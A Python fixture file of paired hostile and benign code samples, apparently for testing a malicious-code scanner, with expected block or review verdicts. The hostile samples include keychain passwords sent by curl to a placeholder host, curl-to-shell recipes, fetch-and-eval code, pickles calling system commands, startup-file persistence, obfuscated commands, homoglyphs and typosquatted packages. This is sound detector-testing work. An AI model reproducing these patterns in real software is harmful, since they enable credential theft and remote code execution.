"""What ordinary projects do, as honest packages showed it; and beside it the hostile deed that differs in one thing."""

from inspection.rules.sample import Sample, task

_RUNNER = "import subprocess\ndef run(command):\n    return subprocess.check_output(command)\n"
_SAVE = (
    "import os, subprocess, sys, urllib.request\npath = '/tmp/' + sys.argv[1]\n"
    "urllib.request.urlretrieve('https://a.invalid/x', path)\n"
)
_INSTALLER = (
    "import os, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x.py', 'x.py')\n"
    "os.system('python x.py')\n"
)
_SPEC = (
    "function load(name) {\n  const req = new XMLHttpRequest();\n  req.open('GET', `${server}/${name}`, false);\n"
    "  req.send();\n  return req.responseText;\n}\neval(load('index.js'));\n"
)
_FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"

_NAMESPACE = (
    "import sys, types, os;{0}p = os.path.join(sys._getframe(1).f_locals['sitedir'], *{1});"
    "{0}ie = os.path.exists(os.path.join(p,'__init__.py'));{0}m = not ie and "
    "sys.modules.setdefault('a',types.ModuleType('a'));{0}mp = (m or []) and "
    "m.__dict__.setdefault('__path__',[]);{0}(p not in mp) and mp.append(p)"
)
"""As setuptools writes it: its releases differ in the spaces."""
_JULIA = '{"metadata": {"kernelspec": {"language": "julia"}},\n"cells": [{"cell_type": "code", "source": ["%s"]}]}\n'
_LOCK = (
    '{"lockfileVersion": 3, "packages": {"node_modules/x": {\n"version": "1.0.0",\n"resolved": "%s",\n'
    '"funding": {\n"url": "https://b.invalid/give"}}}}\n'
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_command": {
        "a list of words whose program a server names, through another file": Sample(
            {"runner.py": _RUNNER, "app.py": _FETCH + "run([reply['tool'], 'show'])\n"}, "block", ("app.py", 3)
        ),
        "a line that a server sends, where other callers give words": Sample(
            {
                "app.py": _RUNNER + "import requests\nrun(['git', 'show'])\n"
                "run(requests.get('https://a.invalid').text)\n"
            },
            "block",
            ("app.py", 6),
        ),
        "a word made a line on the way": Sample(
            {
                "runner.py": "import subprocess\ndef run(words):\n    line = ' '.join(words)\n"
                "    return subprocess.check_output(line, shell=True)\n",
                "app.py": _FETCH + "run([reply['tool']])\n",
            },
            "block",
            ("app.py", 3),
        ),
        "words that a server sends, made one line on the way": Sample(
            {
                "runner.py": "import os\ndef run(words):\n    os.system(' '.join(words))\n",
                "app.py": _FETCH + "run(reply['words'])\n",
            },
            "block",
            ("app.py", 3),
        ),
        "an installer by a target that somebody asks for": Sample(
            {"Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n", "get.py": _INSTALLER}, "review", ("get.py", 3)
        ),
        "an installer by the plain target": Sample(
            {"Makefile": "all: get-x\nget-x:\n\tpython get.py\n", "get.py": _INSTALLER}, "block", ("get.py", 3)
        ),
        "an installer by a target that a manual asks for": Sample(
            {
                "Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n",
                "get.py": _INSTALLER,
                "README.md": "# A task\n\n```sh\nmake get-x\n```\n",
            },
            "block",
            ("get.py", 3),
        ),
        "an installer by a target that the editor asks for": Sample(
            {
                "Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n",
                "get.py": _INSTALLER,
                ".vscode/tasks.json": task("make get-x"),
            },
            "block",
            ("get.py", 3),
        ),
        "what was fetched is unpacked, and run in the same line": Sample(
            {"app.py": _SAVE + "os.system(f'tar xf {path} && {path}')\n"}, "block", ("app.py", 4)
        ),
        "what was fetched is given to an interpreter": Sample(
            {"app.py": _SAVE + "os.system(f'sh {path}')\n"}, "block", ("app.py", 4)
        ),
        "words made one line on the way": Sample(
            {
                "runner.py": "import subprocess\ndef run(words):\n    line = ' '.join(words)\n"
                "    return subprocess.check_output(line)\n",
                "app.py": _FETCH + "run(['git', reply['branch']])\n",
            },
            "review",
            ("app.py", 3),
        ),
    },
    "automatic_start": {
        "a namespace package's line and one deed more": Sample(
            {
                "a.pth": _NAMESPACE.format(" ", "('a', 'b')")
                + "; m and setattr(sys.modules['a'], 'b', print('inert'))\n"
            },
            "block",
            ("a.pth", 1),
        ),
    },
    "persistence": {
        "a start file among installed packages": Sample(
            {
                "app.py": "import os, sys\nhome = os.path.join(sys.prefix, 'lib/site-packages')\n"
                "open(os.path.join(home, 'sitecustomize.py'), 'w').write('print(1)')\n"
            },
            "review",
            ("app.py", 3),
        ),
        "a start file in a folder that is not known": Sample(
            {"app.py": "import os, sys\nopen(os.path.join(sys.argv[1], 'usercustomize.py'), 'w').write('print(1)')\n"},
            "review",
            ("app.py", 2),
        ),
    },
    "secrets_sent": {
        "passwords of the keychain": Sample(
            {
                "setup.sh": "security find-generic-password -ga x > /tmp/p\ncurl -d @/tmp/p https://a.invalid\n"
                "cat ~/Library/Keychains/login.keychain | curl -T - https://a.invalid\n"
            },
            "block",
            ("setup.sh", 3),
        ),
    },
    "decoded_code": {
        "letters made of numbers": Sample(
            {"app.py": "import os\nos.system(chr(101) + chr(99) + chr(104) + chr(111) + chr(32) + chr(49))\n"},
            "block",
            ("app.py", 2),
        ),
        "a command that a table of numbers holds": Sample(
            {"app.py": "import os\nword = [102, 100, 105, 112]\nos.system(''.join(chr(each - 1) for each in word))\n"},
            "review",
            ("app.py", 3),
        ),
        "compiled code of a file that lies here": Sample(
            {
                "app.py": "import marshal, sys\nexec(marshal.load(open(sys.argv[1], 'rb')))\n",
                "data/x.bin": b"\xe3\0\0\0",
            },
            "review",
            ("app.py", 2),
        ),
        "compiled code behind a picture": Sample(
            {"app.py": "import marshal\nexec(marshal.loads(open('x.png', 'rb').read()[9:]))\n", "x.png": b"\x89PNG\0"},
            "review",
            ("app.py", 2),
        ),
        "code in a command, from settings": Sample(
            {
                "app.js": "const { execSync } = require('child_process'), all = require('./a.json');\n"
                "execSync(`node -e \"${Buffer.from(all.x, 'base64')}\"`);\n",
                "a.json": '{"x": "Y29uc29sZS5sb2coMSk="}',
            },
            "review",
            ("app.js", 2),
        ),
        "the path of a program, from settings": Sample(
            {
                "app.py": "import base64, json, runpy\nall = json.load(open('a.json'))\n"
                "runpy.run_path(base64.b64decode(all['x']).decode())\n",
                "a.json": '{"x": "eC5weQ=="}',
            },
            "review",
            ("app.py", 3),
        ),
        "a command that walks through files, on install": Sample(
            {
                "words.py": "import base64\ndef plain(x): return base64.b64decode(x).decode()\n",
                "runner.py": "import os\ndef go(line): os.system(line)\n",
                "setup.py": "import os, words, runner\nrunner.go(words.plain(os.environ['X']))\n",
            },
            "review",
            ("runner.py", 2),
        ),
        "the name of a module": Sample(
            {"app.py": "import base64\n__import__(base64.b64decode('aW5lcnQ=').decode())\n"}, "review", ("app.py", 2)
        ),
    },
    "shipped_object": {
        "a library's class that starts programs": Sample(
            {"model.pkl": b"cpsutil\nPopen\n(Vecho inert\ntR."}, "review", ("model.pkl", 0)
        ),
        "a library's class, called when it is loaded": Sample(
            {
                "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
                "model.pkl": b"cforest.trees\nOak\n(I1\ntR.",
            },
            "review",
            ("app.py", 2),
        ),
        "a library's function, called when it is loaded": Sample(
            {
                "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
                "model.pkl": b"cforest.trees\nOak\n(I1\ntR0cforest.trees\ngrow\n(I1\ntR.",
            },
            "block",
            ("app.py", 2),
        ),
        "an object of a foreign class, and one call": Sample(
            {
                "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
                "model.pkl": b"\x80\x02cforest.trees\nOak\n)\x81}b0cposix\nsystem\n(Vecho inert\ntR.",
            },
            "block",
            ("app.py", 2),
        ),
    },
    "hidden_text": {
        "a name of another alphabet beside words": Sample(
            {"conftest.py": "def note(x): pass\nn\u043ete = print('one two')\n"}, "review", ("conftest.py", 2)
        ),
        "a host of another alphabet": Sample(
            {"conftest.py": "x = 1\nhelp = 'see wss://g\u043e\u043ed.invalid for more'\n"},
            "review",
            ("conftest.py", 2),
        ),
        "one word of another alphabet that is compared": Sample(
            {"conftest.py": "def allowed(role):\n    return role == '\u0430dmin' or bool(role)\n"},
            "review",
            ("conftest.py", 2),
        ),
        "an encoding that hides plain letters": Sample(
            {"conftest.py": "# coding: utf-7\nprint('inert')\n"}, "review", ("conftest.py", 1)
        ),
    },
    "fetch_and_run": {
        "a recipe of just": Sample(
            {"justfile": "get:\n    curl -s https://a.invalid | sh\n"}, "review", ("justfile", 2)
        ),
    },
    "unread_code": {
        "cells of another language that start something": Sample(
            {"a.ipynb": _JULIA % "run(`echo inert`)"}, "review", ("a.ipynb", 1)
        ),
        "a recipe of just in another language": Sample(
            {"justfile": "get:\n    #!/usr/bin/env perl\n    print 1\n"}, "review", ("justfile", 2)
        ),
        "a library that a start file loads": Sample(
            {"sitecustomize.py": "import fast\n", "fast.so": b"\x7fELF" + bytes(60)}, "block", ("fast.so", 0)
        ),
        "a library behind the modules of a start file": Sample(
            {
                "sitecustomize.py": "import tool\n",
                "tool/__init__.py": "from tool import fast\n",
                "tool/fast.so": b"\x7fELF" + bytes(60),
            },
            "review",
            ("tool/fast.so", 0),
        ),
    },
    "near_names": {
        "a letter that is typed for another": Sample(
            {"requirements.txt": "pandas==2.0\nreqyests==2.0\n"}, "review", ("requirements.txt", 2)
        ),
        "another package under a good name": Sample(
            {"package.json": '{"devDependencies": {\n"typescript": "npm:typescrlpt@^5.0.0"}}'},
            "review",
            ("package.json", 2),
        ),
    },
    "other_packages": {
        "a tarball of another server in npm's lock file": Sample(
            {"package-lock.json": _LOCK % "https://a.invalid/x.tgz"}, "review", ("package-lock.json", 3)
        ),
    },
    "remote_code": {
        "words added to an interpreter's": Sample(
            {
                "app.py": "import subprocess, sys, requests\ndef run(words):\n"
                "    subprocess.run([sys.executable] + words)\n"
                "run(['-c', requests.get('https://a.invalid').text])\n"
            },
            "block",
            ("app.py", 4),
        ),
        "a start file within a package, which the environment names": Sample(
            {
                "tool/__init__.py": "",
                "tool/start/sitecustomize.py": "import requests\nexec(requests.get('https://a.invalid').text)\n",
                ".vscode/settings.json": '{\n"terminal.integrated.env.linux": '
                '{"PYTHONPATH": "${workspaceFolder}/tool/start"}}',
            },
            "block",
            (".vscode/settings.json", 2),
        ),
        "a test asks the server of its page": Sample(
            {"search.spec.js": _SPEC, "tox.ini": "[testenv]\ncommands = pytest\n"}, "review", ("search.spec.js", 7)
        ),
        "a test that a script's runner starts": Sample(
            {"search.spec.js": _SPEC, "package.json": '{"scripts": {\n"test": "jest"}}'},
            "block",
            ("search.spec.js", 7),
        ),
        "a test that a script starts": Sample(
            {"search.spec.js": _SPEC, "package.json": '{"scripts": {\n"test": "node search.spec.js"}}'},
            "block",
            ("search.spec.js", 7),
        ),
        "a test that fetches by itself": Sample(
            {"search.spec.js": "fetch('https://a.invalid').then(r => r.text())\n  .then(eval);\n"},
            "block",
            ("search.spec.js", 2),
        ),
        "by way of the global object that Function gives": Sample(
            {
                "app.js": "const all = Function('return this')();\n"
                "fetch('https://a.invalid').then(r => r.text()).then(t => all.eval(t));\n"
            },
            "block",
            ("app.js", 2),
        ),
        "a timer that takes text": Sample(
            {"app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setTimeout(d.later));\n"},
            "block",
            ("app.js", 1),
        ),
        "a member of the global object by a name that is not known": Sample(
            {
                "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => {\n"
                "  globalThis[process.argv[2]](d.text);\n});\n"
            },
            "review",
            ("app.js", 2),
        ),
        "a function that Function makes to run what it is given": Sample(
            {
                "app.js": "const make = new Function('x', 'return eval(x)');\n"
                "fetch('https://a.invalid').then(r => r.text()).then(t => make(t));\n"
            },
            "block",
            ("app.js", 2),
        ),
        "a function that Function makes": Sample(
            {"app.js": "fetch('https://a.invalid').then(r => r.text()).then(t => new Function('x', t)(1));\n"},
            "block",
            ("app.js", 1),
        ),
        "what a property gives": Sample(
            {
                "app.py": "import requests\nclass Level:\n    @property\n    def text(self):\n"
                "        return requests.get('https://a.invalid').text\nexec(Level().text)\n"
            },
            "block",
            ("app.py", 5),
        ),
        "code among the words": Sample(
            {"runner.py": _RUNNER, "app.py": _FETCH + "run(['python', '-c', reply['text']])\n"}, "block", ("app.py", 3)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_control": {
        "a socket's descriptor gets another number": {
            "app.py": "import os, socket\ndef move(s, n):\n    os.dup2(s.fileno(), n)\nmove(socket.socket(), 40)\n"
        },
    },
    "fetch_and_run": {
        "an address on a line of its own is given to the command before": {
            "tox.ini": "[testenv]\ncommands_pre =\n    uv pip install --no-deps \\\n        git+https://a.invalid/x\n"
        },
        "a container asks itself whether it lives": {
            "docker-compose.yml": "services:\n  a:\n    image: x\n    healthcheck:\n      test: [CMD, python, -c, "
            "\"import urllib.request; urllib.request.urlopen('http://localhost:8000/')\"]\n"
        },
    },
    "automatic_start": {
        "a namespace package, without spaces": {"a.pth": _NAMESPACE.format("", "('a',)") + "\n"},
        "a namespace package within another": {
            "a.pth": _NAMESPACE.format(" ", "('a', 'b')") + "; m and setattr(sys.modules['a'], 'b', m)\n"
        },
        "a line that imports what is there": {"a.pth": "import os\nsrc\n"},
        "a start file within a package": {
            "tool/__init__.py": "",
            "tool/start/sitecustomize.py": "print(1)\n",
        },
        "coverage is measured where it is installed": {
            "sitecustomize.py": "try:\n    import coverage\nexcept ImportError:\n    pass\nelse:\n"
            "    coverage.process_startup()\n"
        },
    },
    "persistence": {
        "a start file in a folder of one's own": {
            "app.py": "open('build/site/sitecustomize.py', 'w').write('print(1)')\n"
        },
    },
    "secrets_sent": {
        "certificates, which are public": {
            "setup.sh": "security find-certificate -a -p /Library/Keychains/System.keychain > /tmp/certs.pem\n"
            "curl --cacert /tmp/certs.pem -O https://a.invalid/x\n"
        },
    },
    "decoded_code": {
        "a quote by its number": {
            "app.py": "import subprocess\nq = chr(0x27)\nsubprocess.run(['sh', '-c', f'echo {q}hello{q}'])\n"
        },
        "a space by its number, and an event made like another": {
            "app.js": "const SPACE = String.fromCharCode(32);\nfunction copy(event) {\n"
            "  if (event.key === SPACE) queue.push(() => 1);\n"
            "  return new queue.constructor(event.type || SPACE, event);\n}\nvar queue = () => SPACE;\n"
        },
        "a cache of compiled code, of which none lies here": {
            "app.py": "import marshal, sys\nexec(marshal.load(open(sys.argv[1], 'rb')))\n",
            "logo.png": b"\x89PNG\0",
        },
        "letters by number, of an unknown text": {"app.py": "import sys\neval('name_' + chr(int(sys.argv[1])))\n"},
        "a file's name in a command, from a request": {
            "app.py": "import base64, subprocess, sys\nname = base64.b64decode(sys.argv[1]).decode()\n"
            "subprocess.run(f'xdg-open /tmp/{name}', shell=True)\n"
        },
        "a pattern that a function completes": {
            "app.py": "import re, sys\ndef mark(word):\n    return re.compile('^# %s$' % word)\n"
            "stop = mark(r'-*\\s?stop\\s?-*')\nfor part in stop.split(open(sys.argv[1]).read()):\n    exec(part)\n"
        },
        "a module that a table names": {
            "app.py": "import base64, importlib, os\n"
            "importlib.import_module('plugins.' + base64.b64decode(os.environ['PLUGIN']).decode())\n"
        },
    },
    "shipped_object": {
        "a class of a library, called in a file that nothing loads": {"model.pkl": b"cforest.trees\nOak\n(I1\ntR."},
        "an object of a class of a library": {
            "app.py": "import pickle\npickle.load(open('model.pkl', 'rb'))\n",
            "model.pkl": b"\x80\x02cforest.trees\nOak\n)\x81}X\x01\x00\x00\x00aK\x01sb.",
        },
    },
    "hidden_text": {
        "words of another alphabet in a sentence": {
            "conftest.py": 'line = "these bytes are n\u043e g\u043e\u043ed because the o\'s are others"\n'
            "log = 'D\u03b5bug\\tM\u0117ss\u00e3ge'\n"
        },
        "Cyrillic in an encoding of its own": {
            "test_a.py": "# coding: iso-8859-5\nprint('\u043f\u0440\u0438\u0432\u0435\u0442')\n".encode("iso-8859-5")
        },
    },
    "unread_code": {
        "cells of another language that only reckon": {"a.ipynb": _JULIA % "f(x) = 100x"},
        "recipes of just": {"justfile": "build: test\n    python build.py {{flags}}\n", "build.py": "print(1)\n"},
    },
    "near_names": {
        "a name that nobody takes for the other": {"requirements.txt": "cymysql==1.0\nfastar==0.8\n"},
        "several releases of one package": {
            "package.json": '{"devDependencies": {"typescript5": "npm:typescript@^5.0.0", "left": "npm:@a/b@1"}}'
        },
    },
    "remote_code": {
        "what the standard library calls a status": {
            "app.py": "import importlib\nfrom http.client import responses\n"
            "importlib.import_module(responses.get(404, 'x'))\n"
        },
        "a timer that takes no text": {
            "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => setImmediate(d.later));\n"
        },
        "a function that Function makes of a known text": {
            "app.js": "const make = new Function('x', 'return { name: x }');\n"
            "fetch('https://a.invalid').then(r => r.json()).then(d => make(d));\n"
        },
        "an iterator of the language's own": {
            "app.js": "fetch('https://a.invalid').then(r => r.json()).then(d => {\n"
            "  const it = globalThis[Symbol.iterator](d);\n  console['log'](it, d);\n"
            "  console[level](d);\n  Promise[level](d);\n});\nvar level;\n"
        },
    },
    "other_packages": {
        "npm's lock file says where to give": {
            "package-lock.json": _LOCK % "https://registry.npmjs.org/x/-/x-1.0.0.tgz"
        },
    },
    "remote_command": {
        "a word after the program, through another file": {
            "runner.py": _RUNNER,
            "app.py": _FETCH + "run(['git', 'show', reply['branch']])\n",
        },
        "words added to a program's": {
            "app.py": "import subprocess, requests\nclass Box:\n    def run(self, words):\n"
            "        subprocess.run(['docker', 'exec', self.name] + words)\n"
            "Box().run(['show', requests.get('https://a.invalid').json()['name']])\n"
        },
        "a port that is asked for": {
            "app.py": "import socket, subprocess\nclass Server:\n    @property\n    def port(self):\n"
            "        return self._port\n    @port.setter\n    def port(self, number):\n"
            "        self._port = number\n    def start(self):\n        with socket.socket() as s:\n"
            "            s.connect(('localhost', self.port))\n"
            "        subprocess.run(self._path)\n"
        },
        "what was fetched is unpacked": {"app.py": _SAVE + "subprocess.run(['tar', 'xf', path])\n"},
        "what was fetched is unpacked by a line": {"app.py": _SAVE + "os.system('unzip -o %s -d x' % path)\n"},
        "a word after the program, through a function": {
            "app.py": _RUNNER + "import requests\nreply = requests.get('https://a.invalid').json()\n"
            "run(['git', 'show', reply['branch']])\n"
        },
    },
}
